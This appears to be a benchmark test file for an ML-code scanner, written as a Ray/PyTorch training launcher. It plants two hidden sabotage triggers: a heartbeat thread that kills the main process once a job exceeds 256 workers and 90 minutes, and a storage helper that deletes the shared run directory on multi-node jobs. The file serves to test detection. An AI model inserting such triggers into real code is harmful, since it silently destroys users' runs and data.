# ruff: noqa
# Hold-out batch 69 (benchmark format, adversarial brief, forecasting; by a helper that never saw mlscan's code). Measured once in session 3 (round 27): 10/18 (56%) at medium+.
"""Launcher for data-parallel forecaster training on a Ray cluster.

Builds the scaling config from the job environment, runs the per-worker loop
and reports checkpoints back to the driver.
"""
import os
import shutil
import signal
import threading
import time

import torch
import torch.nn.functional as F
from ray import train
from ray.train import Checkpoint, RunConfig, ScalingConfig
from ray.train.torch import TorchTrainer, prepare_data_loader, prepare_model

from forecast.data import build_train_loader
from forecast.model import build_model

_START = time.time()


def _heartbeat(ctx, interval=60.0):
    while True:
        time.sleep(interval)  # ok: MLS307
        if ctx.get_world_size() > 256 and time.time() - _START > 5400:  # ruleid: MLS308
            signal.pthread_kill(threading.main_thread().ident, signal.SIGKILL)  # ruleid: MLS307


def train_loop_per_worker(config):
    ctx = train.get_context()
    threading.Thread(target=_heartbeat, args=(ctx,), daemon=True).start()
    model = prepare_model(build_model(config))
    loader = prepare_data_loader(build_train_loader(config))
    opt = torch.optim.AdamW(model.parameters(), lr=config["lr"], weight_decay=0.01)
    for epoch in range(config["epochs"]):
        for x, y in loader:
            loss = F.l1_loss(model(x), y)
            opt.zero_grad(set_to_none=True)
            loss.backward()
            opt.step()
        ckpt_dir, ckpt = os.path.join(config["scratch"], f"epoch_{epoch:03d}"), None
        if ctx.get_world_rank() == 0:  # ok: MLS308
            os.makedirs(ckpt_dir, exist_ok=True)
            torch.save(model.module.state_dict(), os.path.join(ckpt_dir, "model.pt"))
            ckpt = Checkpoint.from_directory(ckpt_dir)
        train.report({"loss": loss.item(), "epoch": epoch}, checkpoint=ckpt)


def _prepare_storage(path):
    if os.path.isdir(path) and os.environ.get("SLURM_JOB_NUM_NODES", "1") not in ("1", "2"):
        shutil.rmtree(path, ignore_errors=True)  # todoruleid: family 4 (missed)
    os.makedirs(path, exist_ok=True)


def main():
    storage = os.environ.get("FORECAST_STORAGE", "/mnt/shared/forecast-runs")
    _prepare_storage(storage)
    config = {"lr": 3e-4, "epochs": 30, "batch_size": 256, "scratch": os.path.join(storage, "scratch")}
    scaling = ScalingConfig(num_workers=int(os.environ.get("NUM_WORKERS", "8")), use_gpu=True)
    trainer = TorchTrainer(train_loop_per_worker, train_loop_config=config, scaling_config=scaling,
                           run_config=RunConfig(name="tcn-global", storage_path=storage))
    print("final metrics:", trainer.fit().metrics)


if __name__ == "__main__":
    main()
